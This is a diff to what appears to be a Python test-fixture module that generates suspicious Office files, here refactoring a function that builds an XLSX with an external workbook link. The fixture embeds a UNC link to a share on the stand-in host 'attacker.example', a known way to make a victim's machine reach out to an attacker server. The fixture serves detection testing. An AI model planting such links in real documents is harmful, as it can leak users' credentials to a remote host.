@@ -327,14 +327,13 @@ def macro_sheet_xlsx() -> bytes:
                       ("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "other/m1.xml", ""))
 
 
-def external_link_xlsx() -> bytes:
-    """A link to a workbook on a file share."""
+def external_link_xlsx(folder: str = "externalLinks", file: str = "externalLink1.xml") -> bytes:
+    """A link to a workbook on a file share (kept in `xl/{folder}/{file}`, where Excel keeps it unless told)."""
     return _xlsx_with({
-        "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/'
-                                              b'spreadsheetml/2006/main"/>',
-        "xl/externalLinks/_rels/externalLink1.xml.rels": _relationships(
+        f"xl/{folder}/{file}": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+        f"xl/{folder}/_rels/{file}.rels": _relationships(
             ("externalLinkPath", "file:///\\\\attacker.example\\share\\x.xlsx", "External"))},
-        ("externalLink", "externalLinks/externalLink1.xml", ""))
+        ("externalLink", f"{folder}/{file}", ""))
 
 
 # ---------------------------------------------------------------- PDFs written object by object
